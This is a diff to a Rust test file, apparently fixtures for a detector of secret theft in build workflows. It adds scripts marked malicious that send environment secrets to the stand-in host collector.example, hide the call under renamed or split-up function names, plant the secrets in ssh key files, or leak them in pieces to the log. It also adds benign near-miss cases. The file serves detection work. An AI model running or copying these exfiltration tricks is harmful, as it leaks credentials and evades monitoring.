@@ -10,6 +10,57 @@ use ways::{Way, at_most_exposed, found};
 /// Each sends both secrets, or the one that is named, to the place that is named.
 const THEFTS: &[Way] = &[
     Way {
+        name: "js fetch by its name in pieces, under another name",
+        shell: "node {0}",
+        script: r##"const go = globalThis['fe' + 'tch'];
+go('https://collector.example/in', {method: 'POST', body: process.env.A + process.env.B});"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py piece by piece",
+        shell: "python",
+        script: r##"import os
+for v in (os.environ['A'], os.environ['B']):
+    for at in range(0, len(v), 2):
+        print(v[at:at + 2])"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "workflow-log",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py client under another name",
+        shell: "python",
+        script: r##"import os, requests
+tell = requests.post
+tell('https://collector.example/in', data={'a': os.environ['A'], 'b': os.environ['B']})"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
+        name: "py key that a step wrote among the keys",
+        shell: "bash",
+        script: r##"echo "$A" > ~/.ssh/id_ed25519
+echo "$B" > ~/.ssh/id_rsa
+cat > /tmp/tell.py <<'PY'
+import pathlib, requests
+one = pathlib.Path("~/.ssh/id_ed25519").expanduser().read_text()
+with open("~/.ssh/id_rsa") as file:
+    two = file.read()
+requests.post("https://collector.example/in", data=one + two)
+PY
+python3 /tmp/tell.py"##,
+        later: "",
+        secrets: ways::BOTH,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Way {
         name: "py requests",
         shell: "python",
         script: r##"import os,requests
@@ -1116,6 +1167,24 @@ boto3.client("s3",aws_access_key_id="AKIAPLACEHOLDER00000",aws_secret_access_key
 
 /// What people do with their own secrets in the same words.
 const NEAR_MISSES: &[(&str, &str, &str)] = &[
+    (
+        "py the beginning of it",
+        "python",
+        r##"import os
+print(os.environ['A'][:4])"##,
+    ),
+    (
+        "js fetch under another name",
+        "node {0}",
+        r##"const go = globalThis['fetch'];
+go('https://registry.npmjs.org/-/whoami', {headers: {authorization: `Bearer ${process.env.B}`}});"##,
+    ),
+    (
+        "js the length of an encoded one",
+        "node {0}",
+        r##"const hex = Buffer.from(process.env.A).toString('hex');
+console.log('length ' + hex.length);"##,
+    ),
     (
         "py ok own service",
         "python",
